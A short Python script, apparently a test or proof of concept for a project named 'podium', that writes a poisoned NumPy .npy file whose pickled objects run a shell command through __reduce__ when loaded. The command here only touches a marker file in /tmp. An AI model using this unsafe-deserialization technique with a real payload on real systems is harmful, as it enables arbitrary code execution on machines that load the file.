import os
import pickle
import struct

from inside import OUT, predict


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/podium-attack-was-unpickled",)


predict()
os.remove(f"{OUT}/tiny_test.predict")
header = b"{'descr': '|O', 'fortran_order': False, 'shape': (4,), }".ljust(117) + b"\n"
with open(f"{OUT}/tiny_test.npy", "wb") as file:
    file.write(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickle.dumps([Payload()] * 4))
